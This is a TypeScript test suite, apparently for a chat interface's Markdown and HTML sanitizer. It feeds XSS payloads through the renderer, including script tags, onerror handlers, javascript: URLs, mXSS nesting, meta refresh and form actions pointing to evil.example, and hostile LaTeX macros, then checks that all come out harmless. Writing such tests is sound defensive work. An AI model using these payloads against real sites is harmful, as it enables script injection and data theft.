// Goal: nothing that a model writes can run, load or restyle the page, and what it means is shown.
// Method: hostile and plain sources through the whole path, Markdown and sanitizer, in jsdom.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { JSDOM } from 'jsdom';
import { markdownBlocks } from './markdown';
import { createSanitizer } from './sanitize';

const { window } = new JSDOM('');
const sanitize = createSanitizer(window as unknown as Window & typeof globalThis);

function nodesOf(html: string): HTMLElement {
  const root = window.document.createElement('div');
  root.append(sanitize(html));
  return root;
}

const shown = (source: string): HTMLElement => nodesOf(markdownBlocks(source).join(''));

const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="/v1/models">x</a>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example><input name=a><button formaction=https://evil.example>x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<audio src=x onerror=alert(1)></audio><video poster=https://evil.example/x></video>',
  '<p data-style="background-image:url(https://evil.example/x);position:fixed;color:red">x</p>',
  '<button onclick="alert(1)" id="composer" name="x">x</button>',
  '<div id="document" class="x">x</div>',
];

const BANNED =
  'script,img,svg,iframe,object,embed,style,link,form,input,meta,base,template,audio,video,[id],[name],[src],[data-style]';

function assertHarmless(root: HTMLElement, source: string): void {
  assert.equal(root.querySelector(BANNED), null, `${source} gave ${root.innerHTML}`);
  for (const element of root.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      assert.ok(!name.startsWith('on'), `${source} kept ${name}`);
      assert.ok(
        !/javascript|url\(|position|formaction/iu.test(`${name}=${value}`),
        `${source} kept ${name}=${value}`,
      );
      if (name === 'href') assert.match(value, /^(https?:|mailto:)/u);
    }
}

test('hostile HTML does not pass the sanitizer', () => {
  for (const html of HOSTILE_HTML) assertHarmless(nodesOf(html), html);
});

test('hostile HTML in Markdown is text', () => {
  for (const html of HOSTILE_HTML) {
    for (const source of [
      html,
      `- ${html}`,
      `> ${html}`,
      `|a|\n|-|\n|${html}|`,
      `text ${html} text`,
    ]) {
      const root = shown(source);
      assertHarmless(root, source);
    }
  }
  assert.match(
    shown('<script>alert(1)</script>').textContent ?? '',
    /<script>alert\(1\)<\/script>/u,
  );
});

test('hostile Markdown', () => {
  for (const source of [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&colon;alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![x](https://evil.example/track.png)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x" onerror="alert(1)](https://a.example/"onerror="alert(1))',
    '```<img/src=x/onerror=alert(1)>\n<script>alert(1)</script>\n```',
    '```html" onclick="alert(1)\nx\n```',
    '$\\href{javascript:alert(1)}{x}$',
    '$$\\style{position:fixed}{x} \\class{x}{y} \\htmlId{composer}{z}$$',
    '$\\text{<img src=x onerror=alert(1)>}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\def\\a{\\a\\a}\\a$',
  ])
    assertHarmless(shown(source), source);
});

test('links open elsewhere and tell nothing', () => {
  const link = shown('[x](https://example.org/ "title") and https://example.com').querySelectorAll(
    'a',
  );
  assert.equal(link.length, 2);
  for (const one of link) {
    assert.equal(one.getAttribute('target'), '_blank');
    assert.equal(one.getAttribute('rel'), 'noopener noreferrer');
  }
});

test('a picture is a link to it', () => {
  const root = shown('![a fox](https://example.org/fox.png)');
  assert.equal(root.querySelector('a')?.textContent, 'a fox (image)');
});

test('code in colours, with its language and a button', () => {
  const root = shown('```python\ndef f(): return "<b>"\n```');
  assert.equal(root.querySelector('.code-head span')?.textContent, 'python');
  assert.equal(root.querySelector('.hljs-keyword')?.textContent, 'def');
  assert.equal(root.querySelector('code')?.textContent, 'def f(): return "<b>"\n');
  assert.equal(root.querySelector('button')?.getAttribute('type'), 'button');
});

test('code that is still being written', () => {
  assert.equal(shown('```js\nlet x = 1').querySelector('code')?.textContent, 'let x = 1');
});

test('maths in all four brackets', () => {
  for (const source of [
    '$x^2$',
    '\\(x^2\\)',
    'so $$x^2$$ here',
    '$$\nx^2\n$$',
    '\\[\nx^2\n\\]',
    '- $$x^2$$',
  ])
    assert.ok(shown(source).querySelector('math msup'), source);
  assert.equal(shown('$$\nx\n$$').querySelector('math')?.getAttribute('display'), 'block');
  assert.equal(shown('$x$').querySelector('math')?.getAttribute('display'), null);
});

test('money is no maths, and half a formula is text', () => {
  for (const source of ['It costs $5 or $6.', 'a $ b $ c', '`$x$`', '$x', '$$x', '\\$x\\$'])
    assert.equal(shown(source).querySelector('math'), null, source);
});

test('formulas keep what they are set by', () => {
  const root = shown('$$\\left(\\frac{a}{b}\\right) \\qquad \\textcolor{red}{x}$$');
  assert.equal(root.querySelector('mspace')?.getAttribute('width'), '2em');
  assert.equal(root.querySelector('mo')?.getAttribute('stretchy'), 'true');
});

test('a wrong formula shows its source', () => {
  assert.equal(shown('$\\frac{a$').querySelector('.math-source')?.textContent, '\\frac{a');
});

test('tables are aligned by classes', () => {
  const root = shown('|a|b|\n|-|-:|\n|1|2|');
  assert.equal(root.querySelector('td:last-child')?.className, 'align-right');
  assert.equal(root.querySelector('[style]'), null);
});

test('headings stand below those of the page', () => {
  assert.equal(shown('# A').querySelector('h3')?.textContent, 'A');
  assert.equal(shown('##### A').querySelector('h6')?.textContent, 'A');
});

test('a growing answer changes its last block only', () => {
  const whole = 'One\n\n- a\n- b\n\n```c\nint x;\n```\n\nLast words';
  for (let length = 1; length < whole.length; ++length) {
    const before = markdownBlocks(whole.slice(0, length));
    const after = markdownBlocks(whole.slice(0, length + 1));
    const nFinished = Math.max(0, before.length - 1);
    assert.deepEqual(after.slice(0, nFinished), before.slice(0, nFinished));
  }
  assert.equal(markdownBlocks(whole).length, 4);
});

test('blocks together are the whole, with definitions from elsewhere', () => {
  const root = shown('See [it][1].\n\n[1]: https://example.org/\n\nMore.');
  assert.equal(root.querySelector('a')?.getAttribute('href'), 'https://example.org/');
});
